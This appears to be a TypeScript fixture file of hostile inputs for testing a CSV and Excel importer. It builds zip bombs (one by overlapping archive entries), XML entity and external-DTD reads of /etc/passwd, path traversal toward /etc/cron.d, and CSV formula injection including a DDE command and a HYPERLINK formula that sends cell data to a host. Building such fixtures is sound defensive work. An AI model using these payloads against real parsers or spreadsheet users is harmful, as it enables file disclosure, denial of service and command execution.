import { type CartellaFatta, cartella } from './cartella.js';
import { type DocumentoOstile, MIB, long, made, small } from './documento-ostile.js';
import { zip } from './zip.js';

const NOMI = 'codice_fiscale;cognome;nome';
const RIGA = `${NOMI}\nRSSMRK66C14H501U;ROSSI;MIRKO\n`;

/** Hostile CSV. */
export const CSV_OSTILE: readonly DocumentoOstile[] = [
  long('a quoted cell of 50 MB', 'TB-05', `${NOMI}\n"`, 'x', 50 * MIB),
  long('a cell of 50 MB', 'TB-05', `${NOMI}\n`, 'x', 50 * MIB),
  long('a cell of 50 million quotes', 'TB-05', `${NOMI}\n"`, '""', 25 * MIB),
  long('lines without end inside a cell', 'TB-05', `${NOMI}\n"`, '\n', 10 * MIB),
  long('a row of a million cells', 'TB-05', `${NOMI}\n`, 'x;', 1_000_000),
  long('a header of a million columns', 'TB-05', '', 'cognome;', 1_000_000),
  long('a row of 50 million empty cells', 'TB-01', '', ';', 50 * MIB),
  long('200,000 blank lines', 'TB-01', '', '\n', 200_000),
  small('a quote left open', 'TB-07', `${RIGA}"RSS`),
  small('NUL in a cell', 'TB-04', `${RIGA}A;B\0;C`),
  small('a byte that is no UTF-8 after one that is', 'TB-04', Buffer.concat([Buffer.from(`${RIGA}A;è`), Buffer.from([0xe8, 10])])), // prettier-ignore
  small('a mark of UTF-8 on something else', 'TB-04', Buffer.concat([Buffer.from('\ufeff'), Buffer.from(RIGA, 'latin1'), Buffer.from([0xe8, 10])])), // prettier-ignore
  small('UTF-16 of an odd number of bytes', 'TB-04', Buffer.from(`\ufeff${RIGA}`, 'utf16le').subarray(0, -1)),
  small('bytes at random', 'TB-04', Buffer.from(Array.from({ length: 5000 }, (_, at) => (at * 31 + 7) % 256))),
  small('no header', 'TB-13', 'RSSMRK66C14H501U;ROSSI;MIRKO\n'.repeat(20)),
  small('a column twice', 'TB-11', `cognome;${RIGA}`),
];

const HEADER = NOMI.split(';');
const buona: CartellaFatta = { fogli: [{ nome: 'Dati', righe: [HEADER, ['RSSMRK66C14H501U', 'ROSSI', 'MIRKO']] }] };
const SHEET = 'xl/worksheets/sheet1.xml';
const con = (parti: NonNullable<CartellaFatta['parti']>): Buffer => cartella({ ...buona, parti });
const foglio = (rows: string): Buffer => con({ [SHEET]: `<worksheet><sheetData>${rows}</sheetData></worksheet>` });
const rels = (sheet: string): Buffer =>
  con({ 'xl/_rels/workbook.xml.rels': `<Relationships><Relationship Id="rId1" Type="x/worksheet" ${sheet}/></Relationships>` }); // prettier-ignore

/** A compound file of Microsoft with a stream of that name. */
function ole(stream: string): Buffer {
  const magic = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
  return Buffer.concat([magic, Buffer.alloc(512), Buffer.from(stream, 'utf16le'), Buffer.alloc(64)]);
}

/** Hundred sheets that are one and the same stretch of the archive, which inflates to a thousand times its size. */
function overlapped(): Buffer {
  const spaces = ' '.repeat(4 * MIB);
  const fogli = Array.from({ length: 100 }, (_, at) => ({ nome: `Foglio ${at}`, righe: [] }));
  const parti = Object.fromEntries(
    fogli.map((_, at) => [`xl/worksheets/sheet${at + 1}.xml`, at === 0 ? `<worksheet>${spaces}</worksheet>` : '']),
  );
  const bytes = cartella({ fogli, parti });
  const place = bytes.indexOf(`PK\x03\x04`, bytes.indexOf('xl/styles.xml'));
  for (let at = bytes.indexOf('PK\x01\x02'); at !== -1; at = bytes.indexOf('PK\x01\x02', at + 4)) {
    const nome = bytes.toString('latin1', at + 46, at + 46 + bytes.readUInt16LE(at + 28));
    if (nome.startsWith('xl/worksheets/')) bytes.writeUInt32LE(place, at + 42);
  }
  return bytes;
}

/** Hostile workbooks, and files that pass themselves off as such. */
export const CARTELLE_OSTILI: readonly DocumentoOstile[] = [
  made('a workbook with a bomb that says its size', 'TB-05', () => con({ [SHEET]: { dichiarata: { dimensione: 2 ** 32 - 2 } } })), // prettier-ignore
  made('a workbook with a bomb that lies on its size', 'TB-06', () => con({ [SHEET]: { contenuto: ' '.repeat(20 * MIB), dichiarata: { dimensione: 100 } } })), // prettier-ignore
  made('a workbook of regular nothing', 'TB-05', () => foglio(' '.repeat(20 * MIB))),
  made('a workbook of sheets over one another', 'TB-05', overlapped),
  made('a workbook with entities', 'TB-06', () => con({ [SHEET]: '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">]><worksheet>&a;</worksheet>' })), // prettier-ignore
  made('a workbook that reads a file', 'TB-06', () => con({ 'xl/workbook.xml': '<!DOCTYPE w SYSTEM "file:///etc/passwd"><workbook/>' })), // prettier-ignore
  made('a workbook with a sheet elsewhere', 'TB-06', () => rels('TargetMode="External" Target="http://127.0.0.1/sheet1.xml"')), // prettier-ignore
  made('a workbook with a sheet outside', 'TB-06', () => rels('Target="../../../etc/passwd"')),
  made('a workbook nested 100,000 deep', 'TB-05', () => con({ [SHEET]: '<a>'.repeat(100_000) })),
  made('a workbook with a far cell', 'TB-05', () => foglio('<row r="1"><c r="XFD1" t="str"><v>x</v></c></row>')),
  made('a workbook with rows backwards', 'TB-06', () => foglio('<row r="5"/><row r="4"/>')),
  made('a workbook with a text that is not there', 'TB-06', () => foglio('<row><c t="s"><v>4294967296</v></c></row>')),
  made('a workbook with an encrypted part', 'TB-03', () => con({ [SHEET]: { bandiere: 1 } })),
  made('a workbook cut short', 'AR-02', () => cartella(buona).subarray(0, -40)),
  made('a workbook cut in the middle', 'AR-02', () => cartella(buona).subarray(0, 700)),
  made('a workbook with bytes after it', 'AR-02', () => Buffer.concat([cartella(buona), Buffer.from('<script>')])),
  made('a workbook with a path that leads out', 'AR-07', () => con({ '../../../etc/cron.d/x': 'x' })),
  small('an encrypted workbook', 'TB-03', ole('EncryptedPackage')),
  small('an .xls under another name', 'TB-02', ole('Workbook')),
  made('an .ods under another name', 'TB-02', () => zip([{ nome: 'META-INF/manifest.xml', contenuto: '<m/>' }])),
  made('a .docx under another name', 'TB-02', () => zip([{ nome: '[Content_Types].xml', contenuto: '<Types/>' }, { nome: 'word/document.xml', contenuto: '<d/>' }])), // prettier-ignore
];

/** Tables that are read, with what somebody has hidden in a cell. */
export const TABELLE_INSIDIOSE: readonly DocumentoOstile[] = [
  small('a formula in a CSV', 'TB-39', `${NOMI}\nRSSMRK66C14H501U;=cmd|' /C calc'!A0;MIRKO\n`),
  small('a link in a CSV', 'TB-39', `${NOMI}\nRSSMRK66C14H501U;"=HYPERLINK(""http://127.0.0.1/?""&A1)";MIRKO\n`),
  small('a control character in a CSV', 'TB-43', `${NOMI}\nRSSMRK66C14H501U;RO\u0007SSI;MIRKO\n`),
  made('NUL in a workbook', 'TB-43', () => foglio(`<row>${HEADER.map((nome) => `<c t="str"><v>${nome}</v></c>`).join('')}</row><row><c t="str"><v>A</v></c><c t="str"><v>B_x0000_</v></c></row>`)), // prettier-ignore
  made('half a character in a workbook', 'TB-43', () => foglio(`<row>${HEADER.map((nome) => `<c t="str"><v>${nome}</v></c>`).join('')}</row><row><c t="str"><v>A</v></c><c t="str"><v>B_xD83D_</v></c></row>`)), // prettier-ignore
];
